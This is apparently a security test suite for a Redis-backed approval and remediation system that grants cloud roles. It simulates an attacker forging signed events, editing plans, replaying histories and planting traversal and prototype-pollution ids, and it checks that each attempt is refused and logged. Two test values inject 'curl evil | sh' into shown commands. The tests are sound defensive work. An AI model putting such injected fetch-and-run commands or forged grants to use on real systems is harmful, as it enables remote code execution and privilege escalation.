/**
 * Attacks by whoever can write to Redis, on the whole program: what they do, what happens, and what is on record. Each on a card
 * of its own; at the end the program still works.
 */
import { afterAll, expect, it } from 'vitest';
import { createAuditLog, verifyLog } from '../../src/approvals/audit.ts';
import { FREEZE } from '../../src/approvals/audit-tail.ts';
import { FIRST_PREV, requestDigest } from '../../src/approvals/record.ts';
import { sealed } from '../../src/signing/signing.ts';
import { keys } from '../../src/store/keys.ts';
import { signingAs } from '../approvals/examples.ts';
import { PLAN_KEY, useSystem } from '../system/system.ts';
import { until } from '../system/until.ts';
import { brokenCluster, brokenMember, brokenProject, brokenProjects, nodeRole } from '../system/worlds.ts';
import { Attacker, MALLORY } from './attacker.ts';

interface Attack {
  readonly title: string;
  /** What has happened to the approval before. */
  readonly first?: 'approve' | 'revoke' | 'deny';
  readonly attack: (attacker: Attacker, n: number) => Promise<unknown>;
  /** What is on record of it; absent: it has no effect that anything could be said of. */
  readonly reported?: string;
  /** The state that it stays in, or ends in. */
  readonly state?: string;
  /** Nothing of the approval can be used any more: a click is refused as altered. */
  readonly altered?: true;
}

const bob = { team: 'T0SANDBOX', user: 'U0BOB', id: 'U0BOB', email: 'bob@example.com' };
const vote = { move: 'approve', by: bob, quorum: 1 };
const remove = { move: 'revoke', by: bob, reason: 'gone' };

const EVENTS: readonly Attack[] = [
  {
    title: 'a vote without a signature',
    attack: a => a.append(JSON.stringify({ content: { approval: a.id, ...vote } })),
    reported: 'approval.tampered',
  },
  {
    title: 'a vote with a key of their own',
    attack: async a => a.append(await a.event('bot', vote)),
    reported: 'approval.tampered',
  },
  {
    title: 'a vote with a key of their own, under the id of the bot’s key',
    attack: async a => {
      const own = JSON.parse(await a.event('bot', vote));
      const key = signingAs('bot', PLAN_KEY).seal('event', {}).key;
      return a.append(JSON.stringify({ ...own, seal: { ...own.seal, key } }));
    },
    reported: 'approval.tampered',
  },
  {
    title: 'two votes for a quorum, with keys of their own',
    attack: async a => a.append(await a.event('bot', vote), await a.event('bot', { ...vote, by: MALLORY })),
    reported: 'approval.tampered',
  },
  {
    title: 'a claim with a key of their own',
    attack: async a => a.append(await a.event('remediator', { move: 'claim' })),
    reported: 'approval.tampered',
  },
  {
    title: 'approved, claimed and applied, all with keys of their own',
    attack: async a =>
      a.append(
        await a.event('bot', vote),
        await a.event('remediator', { move: 'claim' }),
        await a.event('remediator', { move: 'apply' }),
      ),
    reported: 'approval.tampered',
  },
  {
    title: 'a denial with a key of their own: it can be approved all the same',
    attack: async a => a.append(await a.event('bot', { move: 'deny', by: bob, reason: 'no' })),
    reported: 'approval.tampered',
  },
  {
    title: 'an expiry with a key of their own',
    attack: async a => a.append(await a.event('bot', { move: 'expire' })),
    reported: 'approval.tampered',
  },
  {
    title: 'rubbish behind the history',
    attack: a => a.append('{"content":', '\u0000', '[]'),
    reported: 'approval.tampered',
  },
  { title: 'the first event again', attack: async a => a.append(...(await a.lines())), reported: 'approval.tampered' },
  {
    title: 'the state of the old format, "applying"',
    attack: a => a.here.store.hset(`{gke-auth}:approval:${a.id}`, 'state', 'applying', 'votes', '9', 'fence', '1'),
  },
  {
    title: 'voters of the old format',
    attack: a => a.here.store.sadd(`{gke-auth}:approval:${a.id}:voters`, 'id U0BOB'),
  },
];

const OTHERS: readonly Attack[] = [
  {
    title: 'a denied card whose denial is cut off, and approved votes of another card behind it',
    first: 'deny',
    attack: async a => {
      await a.cut(1);
      const other = (await a.here.store.keys('{gke-auth}:approval:*:signed-events')).find(key => !key.includes(a.id));
      const [, foreign = ''] = await a.here.store.lrange(other ?? '', 0, -1);
      await a.append(foreign || '{}');
    },
    reported: 'approval.tampered',
    state: 'pending',
  },
];

const PLANS: readonly Attack[] = [
  {
    title: 'the member of the plan',
    attack: (a, n) => a.edit(0, brokenMember(n), 'user:mallory@example.com'),
    altered: true,
  },
  { title: 'the role of the plan', attack: a => a.edit(0, nodeRole, 'roles/owner'), altered: true },
  { title: 'the project of the plan', attack: (a, n) => a.edit(0, brokenProject(n), 'sandbox-1'), altered: true },
  { title: 'the requester of the plan', attack: a => a.edit(0, a.here.people.requester, MALLORY.user), altered: true },
  {
    title: 'the end of the time to decide',
    attack: a => a.edit(0, /"expiresAt":"[^"]+"/g, '"expiresAt":"2199-01-01T00:00:00.000Z"'),
    altered: true,
  },
  {
    title: 'the command that the card shows',
    attack: a => a.edit(0, 'gcloud projects', 'curl evil | sh; gcloud projects'),
    altered: true,
  },
  {
    title: 'a whole plan of their own',
    attack: async a => {
      const { signed } = await a.approval();
      const plan = {
        ...signed.plan,
        remedy: { ...signed.plan.remedy, params: { ...signed.plan.remedy.params, role: 'roles/owner' } },
      };
      const content = { approval: a.id, index: 1, prev: FIRST_PREV, at: Date.now(), move: 'open', plan };
      const line = sealed(signingAs('diagnoser', 'a secret that the attacker made up'), 'event', content);
      await a.here.store.lset(keys.events(a.id), 0, line);
    },
    altered: true,
  },
  {
    title: 'the history of another card',
    attack: async a => {
      const other =
        (await a.here.store.keys('{gke-auth}:approval:*:signed-events')).find(key => !key.includes(a.id)) ?? '';
      const foreign = await a.here.store.lrange(other, 0, -1);
      await a.here.store.del(keys.events(a.id));
      await a.append(...foreign);
    },
    altered: true,
  },
];

const JOBS: readonly Attack[] = [
  {
    title: 'a job to apply without a signature',
    attack: a => a.job('remediate', `forged-${a.id}`, { kind: 'apply', id: `forged-${a.id}`, approval: a.id }),
    reported: 'job.refused',
  },
  {
    title: 'a job to apply with a key of their own',
    attack: a => a.signedJob('remediate', `own-${a.id}`, { kind: 'apply', id: `own-${a.id}`, approval: a.id }),
    reported: 'job.refused',
  },
  {
    title: 'a diagnosis in the name of somebody else, without a signature',
    attack: (a, n) =>
      a.job('diagnose', `whois-${a.id}`, {
        kind: 'diagnose',
        id: `whois-${a.id}`,
        requestedAt: new Date().toISOString(),
        requester: { team: 'T0SANDBOX', user: a.here.people.approver, id: a.here.people.approver },
        place: { team: 'T0SANDBOX', channel: a.here.channel, language: 'en', userLanguage: 'en' },
        request: { cluster: brokenCluster(n), projects: [] },
      }),
    reported: 'job.refused',
  },
  {
    title: 'a job of the bot for another approval',
    attack: async a => {
      const line = sealed(signingAs('bot', PLAN_KEY), 'job', { kind: 'apply', id: 'x', approval: 'another' });
      await a.job('remediate', `swapped-${a.id}`, { trace: 'x', signed: line.replace('another', a.id) });
    },
    reported: 'job.refused',
  },
  {
    title: 'a watch in the name of somebody else',
    attack: async (a, n) => {
      const watch = { id: `w-${a.id}`, target: brokenCluster(n), projects: [], everyMs: 1, requester: bob, place: {} };
      await a.here.store.hset('{gke-auth}:watches', watch.id, JSON.stringify(watch));
      await a.here.store.zadd('{gke-auth}:watches:due', 1, watch.id);
    },
  },
];

const GRANTED: readonly Attack[] = [
  {
    title: 'a revocation with a key of their own',
    first: 'approve',
    attack: async a => a.append(await a.event('bot', remove)),
    reported: 'approval.tampered',
    state: 'verified',
  },
  {
    title: 'a revocation in progress, with a key of their own',
    first: 'approve',
    attack: async a =>
      a.append(await a.event('bot', remove), await a.event('remediator', { move: 'claim-revocation' })),
    reported: 'approval.tampered',
    state: 'verified',
  },
  {
    title: 'a job to revoke without a signature',
    first: 'approve',
    attack: a => a.job('remediate', `revoke-${a.id}`, { kind: 'revoke', id: `revoke-${a.id}`, approval: a.id }),
    reported: 'job.refused',
    state: 'verified',
  },
  {
    title: 'the end of a grant that has none',
    first: 'approve',
    attack: a => a.here.store.zadd(keys.index.ends, 1, a.id),
    state: 'verified',
  },
];

const CUT: readonly Attack[] = [
  {
    title: 'a revoked card that is cut back to its approval: the grant does not come back',
    first: 'revoke',
    attack: a => a.cut(2),
    reported: 'approval.fail',
    state: 'failed',
  },
  {
    title: 'a revoked card that is cut back to its claim',
    first: 'revoke',
    attack: a => a.cut(3),
    reported: 'approval.fail',
    state: 'failed',
  },
  {
    title: 'a denied card that is cut back, and a click of an approver who does not know',
    first: 'deny',
    attack: async a => {
      await a.cut(1);
      await a.here.press(a.here.people.secondApprover, a.button);
    },
    reported: 'approval.fail',
    state: 'failed',
  },
];

const SHELVES: readonly Attack[] = [
  {
    title: 'a pointer from the request to another card',
    attack: async a => {
      const { signed } = await a.approval();
      await a.here.store.set(keys.opened(requestDigest(signed.plan, undefined)), 'another');
    },
  },
  {
    title: 'ids that are no ids, on every index',
    attack: async a => {
      for (const index of Object.values(keys.index))
        await a.here.store.zadd(index, 1, '../../etc/passwd', 1, 'constructor', 1, '__proto__');
    },
  },
  {
    title: 'a mark that the next event is on record already',
    attack: a => a.here.store.hset(keys.audit.recorded, `${a.id}#2`, '1', `${a.id}#3`, '99999'),
  },
  {
    title: 'a report with other words',
    attack: async a => {
      const { signed } = await a.approval();
      const key = `{gke-auth}:report:${signed.plan.reportId}`;
      await a.here.store.set(key, String(await a.here.store.get(key)).replaceAll('gcloud', 'curl evil | sh; gcloud'));
      await a.here.press(a.here.people.requester, { ...a.button, action_id: 'remedy_text' });
    },
  },
  {
    title: 'cards that lie elsewhere',
    attack: a => a.here.store.hset(keys.cards(a.id), 'thread', '{"channel":"../x","ts":7}'),
  },
  {
    title: 'a word to freeze everything without a key',
    attack: async a => {
      await a.here.store.hset('{gke-auth}:freeze', 'frozen', '1', 'action', FREEZE);
    },
  },
];

const ALL = [...EVENTS, ...OTHERS, ...PLANS, ...JOBS, ...GRANTED, ...CUT, ...SHELVES];
const system = useSystem({ world: () => brokenProjects(ALL.length + 1), rateLimits: false });
const rows: string[] = [];
afterAll(() => {
  process.stderr.write(`${rows.join('\n')}\n`);
});

it.each(ALL.map((attack, i) => [attack.title, attack, i + 1] as const))(
  '%s',
  async (title, one, n) => {
    const here = system();
    const button = await here.offer(n, here.addChannel(`attack-${n}`));
    const attacker = new Attacker(here, button);
    if (one.first === 'deny') await attacker.deny();
    else if (one.first) await attacker.approve();
    if (one.first === 'revoke') await attacker.revoke();
    const before = here.holders(brokenProject(n), nodeRole).includes(brokenMember(n));

    await one.attack(attacker, n);
    await attacker.nudge();
    if (one.altered) await here.press(here.people.approver, button);
    if (one.reported) await attacker.reported(one.reported);
    if (one.altered) {
      await attacker.reported('approval.tampered');
      await attacker.reported('approval.refused');
      await expect(here.approval(button.value)).rejects.toThrow(/not what was signed/);
    } else if (one.state) await here.reaches(button.value, one.state as 'pending');
    expect(here.holders(brokenProject(n), nodeRole).includes(brokenMember(n))).toBe(before);
    expect(here.holders(brokenProject(n), 'roles/owner')).not.toContain('user:mallory@example.com');
    // What had no effect does not keep anybody from deciding.
    if (!one.first && !one.altered) await attacker.approve();
    rows.push(
      `  ${title}: ${one.altered ? 'refused as altered' : (one.state ?? 'no effect')}; on record: ${one.reported ?? (one.altered ? 'approval.tampered' : '-')}`,
    );
  },
  60_000,
);

it('the log is whole, though all of this was tried', async () => {
  const here = system();
  const signing = signingAs('bot', PLAN_KEY);
  const audit = createAuditLog({ redis: here.store, signing, redact: value => value });
  expect(await until('the log is at rest', async () => verifyLog(audit, signing))).toMatchObject({ ok: true });
});
